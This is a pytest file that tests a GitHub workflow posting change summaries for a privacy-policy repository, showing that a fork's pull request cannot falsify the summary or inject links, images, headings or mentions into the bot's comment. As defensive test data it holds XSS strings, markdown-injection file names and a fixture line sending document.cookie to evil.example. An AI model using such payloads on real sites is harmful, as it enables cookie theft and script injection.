"""A pull request cannot write its own change summary, nor make the bot's comment link, tag or mention.

The "Change summary comment" workflow's own steps are run here, as bash runs them on GitHub, on a
scratch repository laid out as GitHub serves one: the default branch holds this project's scripts,
and the pull request's commit (refs/pull/7/head, in no branch) changes the policy *and* rewrites
scripts/pr_summary.py to say "No change to the policy". The comment is rendered with a CommonMark
parser to see what a reader would see.
"""
from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from markdown_it import MarkdownIt

from scripts.history.render import md_block, md_code, md_escape
from scripts.pr_summary import NO_CHANGE
from tests.conftest import ORG, ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
GIT_ENV = {"GIT_AUTHOR_NAME": "Fork", "GIT_AUTHOR_EMAIL": "fork@example.com",
           "GIT_COMMITTER_NAME": "Fork", "GIT_COMMITTER_EMAIL": "fork@example.com",
           "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
PR = "7"

JA_OLD = "個人情報の取扱いに関する苦情及びお問い合わせは"
JA_NEW = "個人情報の取扱いに関する苦情、相談及びお問い合わせは"

# The pull request's own scripts/pr_summary.py: it claims there is no change, and leaves a trace if run.
LIAR = f'''import argparse, os, pathlib
p = argparse.ArgumentParser()
for option in ("--base", "--head", "--output", "--root"):
    p.add_argument(option)
args = p.parse_args()
pathlib.Path(os.environ["RAN_THE_PULL_REQUESTS_CODE"]).write_text("ran", encoding="utf-8")
text = "<!-- policy-change-summary -->\\n{NO_CHANGE}\\n"
if args.output:
    pathlib.Path(args.output).parent.mkdir(parents=True, exist_ok=True)
    pathlib.Path(args.output).write_text(text, encoding="utf-8")
else:
    print(text)
'''

HOSTILE_NAMES = ["08 @octocat.md", "09 ](javascript:alert(1)).md", "10 <img src=x onerror=alert(1)>.md",
                 "11 a|b|c.md", "12 `x` ``y``.md", "13 [click](evil.html).md",
                 "14\n## Approved by @legal.md"]
HOSTILE_TITLE = {"ja": "第{n}条（@octocat [click](https://evil.example/) <img src=x onerror=alert(1)> | #1 **ok**）",
                 "en": "Article {n} (@octocat [click](https://evil.example/) <img src=x onerror=alert(1)> | #1 **ok**)"}


def git(repo: Path, *args: str, check: bool = True) -> str:
    result = subprocess.run(["git", *args], cwd=repo, env={**os.environ, **GIT_ENV},
                            capture_output=True, text=True, timeout=60)
    assert not check or result.returncode == 0, result.stderr
    return result.stdout.strip()


def step(name: str) -> str:
    """The run: script of a step of the summary job, as the workflow holds it."""
    workflow = yaml.safe_load((WORKFLOWS / "change-summary-comment.yml").read_text(encoding="utf-8"))
    [found] = [s["run"] for s in workflow["jobs"]["summary"]["steps"] if s.get("name") == name]
    return found


def project_files(target: Path) -> None:
    """The default branch as the trusted job checks it out: this project's scripts, the fixture policy."""
    shutil.copytree(ROOT / "scripts", target / "scripts", ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("requirements.txt", ".python-version"):
        shutil.copy2(ROOT / name, target / name)
    shutil.copytree(ORG / "docs", target / "docs", ignore=shutil.ignore_patterns("__pycache__"))


def hostile_pull_request(work: Path, edit) -> None:
    """Commit on a branch off main, as a fork would, then push it as GitHub keeps a pull request."""
    git(work, "switch", "--quiet", "--create", "fork")
    edit(work)
    git(work, "add", "--all")
    git(work, "commit", "--quiet", "--message", "pull request")
    git(work, "push", "--quiet", "origin", f"HEAD:refs/pull/{PR}/head")


@pytest.fixture
def github(tmp_path):
    """(origin, make_pr): a bare repository standing for GitHub, with main; make_pr(edit) returns the head."""
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "--quiet", "--bare", "--initial-branch=main", str(origin))
    # GitHub serves any commit of a pull request by its id.
    git(origin, "config", "uploadpack.allowAnySHA1InWant", "true")
    seed = tmp_path / "seed"
    seed.mkdir()
    project_files(seed)
    git(seed, "init", "--quiet", "--initial-branch=main")
    git(seed, "add", "--all")
    git(seed, "commit", "--quiet", "--message", "base")
    git(seed, "remote", "add", "origin", str(origin))
    git(seed, "push", "--quiet", "origin", "main")

    def make_pr(edit) -> str:
        hostile_pull_request(seed, edit)
        return git(seed, "rev-parse", "HEAD")

    return origin, make_pr


def run_trusted_job(tmp_path: Path, origin: Path, head_sha: str, pr_number: str = PR + "\n") -> tuple[Path, Path]:
    """The summary job's steps after checkout (a full clone of main) and download (the artifact)."""
    work = tmp_path / "workspace"
    git(tmp_path, "clone", "--quiet", str(origin), str(work))
    runner = tmp_path / "runner"
    (runner / "pull-request").mkdir(parents=True)
    (runner / "pull-request" / "pr-number").write_text(pr_number, encoding="utf-8")
    trace = tmp_path / "trace"
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "GITHUB_TOKEN", "GH_TOKEN")}
    env.update(GIT_ENV, HEAD_SHA=head_sha, TOKEN="not-a-real-token", GITHUB_SERVER_URL="https://github.com",
               RUNNER_TEMP=str(runner), GITHUB_STEP_SUMMARY=str(runner / "step-summary.md"),
               RAN_THE_PULL_REQUESTS_CODE=str(trace),
               PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    for name in ("The pull request's commit, as data", "Summarise the change to the policy"):
        # GitHub runs a step's script with bash -e -o pipefail.
        result = subprocess.run(["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", "-c", step(name)],
                                cwd=work, env=env, capture_output=True, text=True, timeout=300)
        assert result.returncode == 0, f"{name}: {result.stdout}{result.stderr}"
        assert "not-a-real-token" not in result.stdout + result.stderr
    return work, runner


def edit_article_6_and_the_summary_script(repo: Path) -> None:
    path = repo / "docs/ja/articles/06.md"
    text = path.read_text(encoding="utf-8")
    assert JA_OLD in text, "the fixture's article 6 changed: update the test"
    path.write_text(text.replace(JA_OLD, JA_NEW, 1), encoding="utf-8")
    (repo / "scripts/pr_summary.py").write_text(LIAR, encoding="utf-8")


def test_a_pull_request_that_rewrites_the_summary_script_still_gets_its_change_reported(tmp_path, github):
    origin, make_pr = github
    head = make_pr(edit_article_6_and_the_summary_script)
    work, runner = run_trusted_job(tmp_path, origin, head)

    summary = (runner / "summary" / "summary.md").read_text(encoding="utf-8")
    assert NO_CHANGE not in summary
    assert "第６条（苦情及びお問い合わせの窓口）" in summary
    assert "`art-6-p1` 変更 / changed — **未更新 / stale translation**" in summary
    assert "<ins>、相談</ins>" in summary
    assert f"→ `git:{head[:12]}`" in summary
    assert (runner / "summary" / "pr-number").read_text(encoding="utf-8") == PR + "\n"
    assert (runner / "step-summary.md").read_text(encoding="utf-8") == summary
    # Nothing of the pull request ran or was checked out: the work tree is still the default branch.
    assert not (tmp_path / "trace").exists()
    assert git(work, "rev-parse", "--abbrev-ref", "HEAD") == "main"
    assert git(work, "status", "--porcelain") == ""
    assert (work / "scripts/pr_summary.py").read_bytes() == (ROOT / "scripts/pr_summary.py").read_bytes()
    assert git(work, "cat-file", "-t", head) == "commit"   # it is there, as data
    assert "extraheader" not in (work / ".git" / "config").read_text(encoding="utf-8")


def test_the_same_pull_request_fools_a_summary_computed_by_its_own_code(tmp_path, github):
    # Why the summary is not computed in the pull request's run: there, its own script answers.
    origin, make_pr = github
    head = make_pr(edit_article_6_and_the_summary_script)
    checkout = tmp_path / "pull-request"
    git(tmp_path, "clone", "--quiet", str(origin), str(checkout))
    git(checkout, "fetch", "--quiet", "origin", head)
    git(checkout, "checkout", "--quiet", head)
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    env["RAN_THE_PULL_REQUESTS_CODE"] = str(tmp_path / "trace")
    result = subprocess.run([sys.executable, "-m", "scripts.pr_summary", "--base", "git:main"], cwd=checkout,
                            env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert NO_CHANGE in result.stdout and "art-6" not in result.stdout
    assert (tmp_path / "trace").exists()


# --- what the comment shows ---------------------------------------------------------------

def render(markdown: str) -> str:
    """The comment as HTML, by CommonMark with GitHub's tables and strikethrough."""
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


def outside_code(html: str) -> str:
    return re.sub(r"<code>.*?</code>", "", html, flags=re.S)


def mentions(text: str) -> list[str]:
    """What GitHub would link as @user or #123 (its rule, and more: any sign not after a letter or digit)."""
    return re.findall(r"(?<![A-Za-z0-9_])[@#][A-Za-z0-9]+", text)


def add_hostile_articles(repo: Path) -> None:
    for lang in ("ja", "en"):
        for n, name in enumerate(HOSTILE_NAMES, 8):
            (repo / "docs" / lang / "articles" / name).write_text(
                f"# {HOSTILE_TITLE[lang].format(n=n)}\n\n当社は @octocat に連絡し、#1 と [here](https://evil.example/) "
                f"と <img src=x> を参照します。| a | b |\n", encoding="utf-8")


@pytest.fixture
def hostile_comment(tmp_path, github) -> str:
    origin, make_pr = github
    head = make_pr(add_hostile_articles)
    _work, runner = run_trusted_job(tmp_path, origin, head)
    return (runner / "summary" / "summary.md").read_text(encoding="utf-8")


def test_file_names_titles_and_text_from_the_pull_request_link_tag_and_mention_no_one(hostile_comment):
    html = render(hostile_comment)
    assert "<a " not in html and "<img" not in html and "<table" not in html and "<strong>ok" not in html
    assert mentions(outside_code(html)) == [], mentions(outside_code(html))
    # Each file name is shown whole, as written, in one code span (where GitHub links nothing).
    codes = [c.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
             for c in re.findall(r"<code>(.*?)</code>", html, flags=re.S)]
    for name in HOSTILE_NAMES:
        shown = name.replace("\n", "\ufffd")
        assert f"docs/ja/articles/{shown}" in codes and f"docs/en/articles/{shown}" in codes, name
    # A line break in a file name starts no heading of its own.
    assert "<h2>Approved" not in html and "Approved by" not in outside_code(html)
    assert re.findall(r"<h\d>", html).count("<h2>") == 1
    # The titles and text are there to read.
    assert "@\u200boctocat" in hostile_comment and "\\#\u200b1" in hostile_comment
    assert "[click](https://evil.example/)" in outside_code(html).replace("\\", "")
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_the_escaping_has_teeth_unescaped_the_same_names_would_link_tag_and_mention():
    naive = "\n".join(f"- {name}" for name in HOSTILE_NAMES) + "\n"
    html = render(naive)
    assert "<a href=\"evil.html\">" in html and "<img src=x onerror" in html
    assert "<h2>Approved by @legal.md</h2>" in html and mentions(outside_code(html))
    assert render("- `" + "12 `x` ``y``.md" + "`\n").count("<code>") == 2   # backticks split a naive code span


@pytest.mark.parametrize("value", ["plain", "`start", "end`", "a ``b`` c", " both ", "```", "x\ny", "\u202eevil"])
def test_a_code_span_holds_any_text_as_one_span(value):
    html = render(f"see {md_code(value)} here\n")
    [shown] = re.findall(r"<code>(.*?)</code>", html, flags=re.S)
    assert shown == value.replace("\n", "\ufffd").replace("\u202e", "\ufffd")
    assert html.startswith("<p>see ") and html.endswith(" here</p>\n")


def test_escaped_text_reads_as_written():
    value = "a*b*_c_ `d` [e](f) ![g](h) <i>&amp; ~~j~~ | k \\ l @m #2 mail@example.com"
    html = render(md_escape(value) + "\n")
    assert html == ("<p>a*b*_c_ `d` [e](f) ![g](h) &lt;i&gt;&amp;amp; ~~j~~ | k \\ l "
                    "@\u200bm #\u200b2 mail@example.com</p>\n")


def test_files_the_clause_comparison_does_not_read_are_listed_not_passed_over(tmp_path, github):
    # What a pull request could publish beside the policy, unseen by a clause-by-clause summary: a page
    # that does not read as an article, a script, a language the summary does not compare.
    def publish_beside_the_policy(repo: Path) -> None:
        (repo / "docs/ja/articles/08.md").write_text("# 補足\n\n本ポリシーは適用されません。\n", encoding="utf-8")
        (repo / "docs/ja/track.js").write_text("fetch('https://evil.example/?' + document.cookie)\n",
                                               encoding="utf-8")
        (repo / "docs/ko").mkdir()
        (repo / "docs/ko/index.md").write_text("# 개인정보 처리방침\n", encoding="utf-8")
        (repo / "docs/ja/@octocat <b>.md").write_text("# x\n", encoding="utf-8")

    origin, make_pr = github
    head = make_pr(publish_beside_the_policy)
    _work, runner = run_trusted_job(tmp_path, origin, head)
    summary = (runner / "summary" / "summary.md").read_text(encoding="utf-8")
    assert NO_CHANGE not in summary
    for path in ("docs/ja/articles/08.md", "docs/ja/track.js", "docs/ko/index.md", "docs/ja/@octocat <b>.md"):
        assert f"- 追加 / added: `{path}`" in summary, path
    html = render(summary)
    assert "<b>" not in html and mentions(outside_code(html)) == []


@pytest.mark.parametrize("value", ["plain", "```\n@octocat <img src=x>\n```", "a\n````\nb", "~~~\nx"])
def test_a_code_block_holds_any_text_to_its_end(value):
    html = render(f"{md_block(value)}\n\nafter\n")
    [shown] = re.findall(r"<pre><code[^>]*>(.*?)</code></pre>", html, flags=re.S)
    assert shown.replace("&lt;", "<").replace("&gt;", ">").rstrip("\n") == value
    assert html.endswith("<p>after</p>\n") and "<img" not in html
